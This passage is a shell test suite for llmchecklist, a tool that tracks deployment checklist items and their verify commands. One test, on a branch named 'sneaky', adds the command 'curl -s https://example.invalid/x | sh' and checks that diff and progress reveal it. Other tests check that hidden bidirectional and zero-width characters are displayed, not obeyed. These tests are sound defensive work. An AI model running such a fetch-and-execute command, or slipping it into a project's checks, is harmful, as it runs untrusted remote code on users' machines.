  assert_located_error "$PWD/ours.toml" "6:12" "the base checklist has no item 'adversarial-case'; did you mean adversarial-cases?"
  assert_not_contains "$err" "expected a table"
}

test_a_verify_command_added_on_a_branch_is_shown_by_diff_and_progress_since() {
  repo_with_state
  git checkout -qb sneaky
  lc_ok verify 14 --set 'curl -s https://example.invalid/x | sh' -q
  git commit -qam "Tidy the checklist"
  lc diff main sneaky
  assert_status 0
  assert_not_contains "$out" "no change to the checklist"
  assert_contains "$out" "14 human-rating: command added: curl -s https://example.invalid/x | sh"
  lc diff main sneaky --json
  assert_eq "added 14 curl -s https://example.invalid/x | sh" \
    "$(json '.verify_changes[] | "\(.change) \(.number) \(.after)"')"
  lc progress --since main
  assert_status 0
  assert_contains "$err" "verify command added since main: 14 human-rating: curl -s https://example.invalid/x | sh"
  # Changed and removed are named too.
  lc_ok verify 14 --set 'true' -q
  lc diff sneaky
  assert_contains "$(unwrapped "$out")" "command changed: curl -s https://example.invalid/x | sh -> true"
  lc_ok verify 14 --unset -q
  lc diff sneaky
  assert_contains "$(unwrapped "$out")" "command removed: curl -s https://example.invalid/x | sh"
}

test_verify_dry_run_lists_each_command_and_runs_none() {
  git_repo
  lc_ok verify 2 --set 'touch ran-2' -q
  lc_ok verify 4 --set 'touch ran-4' -q
  lc verify --dry-run
  assert_status 0
  assert_contains "$out" "2 cost-at-scale (the state file's command): touch ran-2"
  assert_contains "$out" "4 structured-output (the state file's command): touch ran-4"
  assert_no_file ran-2
  assert_no_file ran-4
  lc verify 4 --dry-run
  assert_not_contains "$out" "ran-2"
}

test_list_marks_items_that_carry_a_verify_command() {
  git_repo
  lc_ok verify 2 --set 'true' -q
  lc list
  assert_match '^  \[ \]  2  cost-at-scale .* \[verify\]$' "$out"
  assert_eq 1 "$(printf '%s\n' "$out" | grep -c '\[verify\]')" "items marked"
}

# Text that reads differently from what it is: a right-to-left override and a zero-width space.
BIDI=$(printf 'ok \342\200\256si siht\342\200\254 and\342\200\213hidden')

test_bidirectional_and_zero_width_characters_are_shown_not_obeyed() {
  git_repo
  lc_ok check 3 --note "$BIDI" -q
  local args
  for args in "show 3" "list" "export"; do
    # shellcheck disable=SC2086
    lc $args
    assert_not_contains "$out" "$(printf '\342\200\256')" "$args"
    assert_not_contains "$out" "$(printf '\342\200\213')" "$args"
  done
  lc show 3
  assert_contains "$out" "ok <U+202E>si siht<U+202C> and<U+200B>hidden"
  lc export --format markdown
  assert_contains "$out" 'ok \<U+202E\>si siht\<U+202C\> and\<U+200B\>hidden'
  lc export --format html
  assert_contains "$out" "ok &lt;U+202E&gt;si siht"
  # The data itself is kept as written.
  lc show 3 --json
  assert_eq "$BIDI" "$(json .note)"
}

test_line_and_paragraph_separators_are_shown_as_code_points() {
  git_repo
  local note
  note=$(printf 'one\342\200\250two\342\200\251three')
  lc_ok check 3 --note "$note" -q
  lc show 3
  assert_contains "$out" "one<U+2028>two<U+2029>three"
  lc list
  assert_not_contains "$out" "$(printf '\342\200\250')" "list"
  lc export --format markdown
  assert_contains "$out" 'one\<U+2028\>two\<U+2029\>three'
  lc export --format html
  assert_contains "$out" "one&lt;U+2028&gt;two"
  # The data itself is kept as written.
  lc show 3 --json
  assert_eq "$note" "$(json .note)"
}

test_bidirectional_characters_in_a_title_and_in_verify_output_are_shown() {
  git_repo
  cp "$FIXTURES/checklists/small.toml" ours.toml
  sed -i "0,/^title = \"Do the alpha thing\"/s//title = \"Do the $(printf '\342\200\256')alpha thing\"/" ours.toml
  grep -q "$(printf '\342\200\256')" ours.toml || fail "small.toml has no alpha title to change"
  lc_ok init --checklist ours.toml -q
  lc list
  assert_contains "$out" "Do the <U+202E>alpha thing"
  lc_ok verify 1 --set "printf 'x\\342\\200\\256y'; exit 1" -q
  lc verify
  assert_contains "$out" "x<U+202E>y"
}

# A custom checklist at version 1 pinned by the state, then moved to version 2 with a new item.
custom_checklist_moved_on() {
  git_repo
  cp "$FIXTURES/checklists/small.toml" ours.toml
  sed -i 's/^version = .*/version = "1"/' ours.toml
  grep -q '^version = "1"$' ours.toml || fail "small.toml has no version line"
  lc_ok init --checklist ours.toml -q
  lc_ok check 1 -q
  sed -i 's/^version = .*/version = "2"/' ours.toml
  printf '\n[[phases.items]]\nid = "zeta"\ntitle = "Do the new zeta thing"\n' >>ours.toml
  cp .llmchecklist before
}

test_writers_refuse_a_state_pinned_to_an_older_version_of_its_checklist_file() {
  custom_checklist_moved_on
  local args
  for args in "check 2" "uncheck 1" "check zeta" "verify 1 --set true" "prune"; do
    # shellcheck disable=SC2086
    lc $args
    assert_status 3
    assert_contains "$err" "follows version 1 of ours.toml, which is now version 2; nothing was written"
    assert_contains "$err" "llmchecklist upgrade"
    assert_same_bytes before .llmchecklist
  done
  # Reading still works, with the notice.
  lc list
  assert_status 0
  assert_contains "$err" "ours.toml is now version 2"
  # The reviewable step still sees the change, and then writing works again.
  lc upgrade --dry-run
  assert_contains "$out" "zeta"
  lc_ok upgrade -q
  lc_ok check zeta -q
}

test_a_state_file_with_conflict_markers_says_so_and_how_to_avoid_them() {
  git_repo
  lc_ok check 1 -q
  printf '<<<<<<< HEAD\n[items.extra]\nstatus = "done"\n=======\n[items.extra]\nstatus = "todo"\n>>>>>>> theirs\n' >>.llmchecklist
  local line
  line=$(grep -n '^<<<<<<<' .llmchecklist | cut -d: -f1)
  cp .llmchecklist before
  lc progress
  assert_status 3
  assert_located_error "$PWD/.llmchecklist" "$line:1" "unresolved merge conflict: git's conflict markers start at line $line"
  assert_contains "$err" "llmchecklist init --git"
  assert_not_contains "$err" "saw '<'"
  lc check 2
  assert_status 3
  assert_same_bytes before .llmchecklist
}

test_syntax_errors_are_said_in_our_words() {
  git_repo
  printf 'format = 1\nchecklist = "builtin:llm-deployment"\n\n[items.quality-bar]\nstatus = "done\nnote = "x"\n' >.llmchecklist
  lc list
  assert_status 3
  assert_contains "$err" "error: a string is not closed on its line: its closing quote is missing"
  assert_not_contains "$err" "Error while parsing"
  assert_not_contains "$err" "explicitly prohibited"
  printf 'format = 1\nformat = 1\n' >.llmchecklist
  lc list
  assert_contains "$err" "error: 'format' is defined twice: keep one of the two"
  # Every message starts in lower case after "error:".
  assert_not_match 'error: [A-Z]' "$err"
}

test_option_values_are_checked_in_words_that_say_what_they_take() {
  git_repo
  lc progress --min abc
  assert_status 2
  assert_contains "$err" "--min: expected a percentage from 0 to 100, got \"abc\""
  lc progress --min 80%
  assert_status 2
  assert_contains "$err" "--min: expected a percentage from 0 to 100 without the % sign, got \"80%\""
  assert_not_contains "$err" "not in range"
  lc progress --min-phase evaluation=lots
  assert_status 2
  assert_contains "$err" "--min-phase takes PHASE=PCT"
  lc export --format badge --red-below 150
  assert_status 2
  assert_contains "$err" "--red-below: expected a percentage from 0 to 100"
  lc verify --timeout never
  assert_status 2
  assert_contains "$err" "--timeout: expected a number of seconds"
}

test_verify_reports_the_real_timeout_and_an_unset_with_nothing_to_remove() {
  git_repo
  lc_ok verify 2 --set 'sleep 30' -q
  lc verify --timeout 0.5
  assert_status 1
  assert_contains "$out" "killed at the 0.5 s limit"
  lc verify 3 --unset
  assert_status 0
  assert_eq "3 context-length has no verify command; nothing removed" "$out"
}

test_an_n_a_decision_that_would_expire_in_the_past_is_refused() {
  git_repo
  lc check 3 --na "not used here" --until 2020-01-01
  assert_status 2
  assert_contains "$err" "--until 2020-01-01 is already past (today is 2026-11-28)"
  assert_no_file .llmchecklist
  lc_ok check 3 --na "not used here" --until 2026-11-28 -q
}

test_item_ids_match_without_regard_to_case() {
  git_repo
  lc show QUALITY-BAR --json
  assert_status 0
  assert_eq "quality-bar" "$(json .id)"
  lc show QUALTY-BAR
  assert_status 2
  assert_contains "$err" "no item 'QUALTY-BAR'; did you mean:"
  assert_contains "$err" "1 quality-bar"
}

test_prune_removes_orphaned_entries_and_lists_them() {
  git_repo
  lc_ok check 1 -q
  printf '\n[items.qualty-bar]\nstatus = "done"\nnote = "a typo in a hand edit"\n' >>.llmchecklist
  cp .llmchecklist before
  lc prune --dry-run
  assert_status 0
  assert_contains "$out" "would remove 1 orphaned entry:"
  assert_contains "$out" "qualty-bar (done, note \"a typo in a hand edit\")"
  assert_same_bytes before .llmchecklist
  lc prune
  assert_status 0
  assert_contains "$out" "removed 1 orphaned entry:"
  assert_not_contains "$(cat .llmchecklist)" "qualty-bar"
  assert_contains "$(cat .llmchecklist)" "[items.quality-bar]"
  lc prune
  assert_contains "$out" "no orphaned entries"
}

test_init_keeps_lock_and_temporary_files_out_of_git_status() {
  git_repo
  lc init
  assert_status 0
  assert_contains "$out" "added .llmchecklist.lock and .llmchecklist.tmp-* to"
  # What a killed writer leaves behind.
  : >.llmchecklist.lock
  : >.llmchecklist.tmp-AbC123
  git add .gitignore .llmchecklist
  assert_eq "A  .gitignore
A  .llmchecklist" "$(git status --porcelain)"
  # Running it again adds nothing twice.
  lc_ok init --force -q
  assert_eq 1 "$(grep -c '^.llmchecklist.lock$' .gitignore)" "lock lines"
}

test_progress_for_one_phase_prints_its_bar_once() {
  git_repo
  lc progress --phase 1
  assert_status 0
  assert_eq 1 "$(printf '%s\n' "$out" | grep -c '%')" "bars"
  assert_not_contains "$out" "Selected"
}

test_commands_that_change_nothing_create_no_state_file() {
  git_repo
  lc prune
  assert_status 0
  lc verify 4 --unset
  assert_status 0
  lc prune --dry-run
  assert_status 0
  assert_no_file .llmchecklist
  lc --file named.llmchecklist uncheck 1
  assert_status 4
  assert_contains "$err" "named.llmchecklist does not exist (named by --file)"
  assert_no_file named.llmchecklist
}

test_init_force_keeps_the_pin_of_a_checklist_file_that_moved_on() {
  custom_checklist_moved_on
  lc init --force --checklist ours.toml
  assert_status 3
  assert_contains "$err" "follows version 1 of ours.toml, which is now version 2"
  assert_same_bytes before .llmchecklist
}

test_lint_reports_an_extends_cycle_as_one_problem() {
  git_repo
  printf '[checklist]\nid = "a"\ntitle = "A"\nextends = "b.toml"\n' >a.toml
  printf '[checklist]\nid = "b"\ntitle = "B"\nextends = "a.toml"\n' >b.toml
  lc lint a.toml
  assert_status 3
  assert_contains "$err" "'extends' makes a cycle: a.toml extends b.toml, which extends a.toml"
  assert_contains "$err" "1 problem found"
}

test_lint_accepts_web_links_in_any_case() {
  git_repo
  cp "$FIXTURES/lint/clean.toml" mine.toml
  sed -i '0,/^severity = "required"$/s||severity = "required"\nlinks = ["HTTPS://example.org/A", "Http://example.org/b"]|' mine.toml
  lc lint --min-words 5 mine.toml
  assert_status 0
}

run_tests "$@"
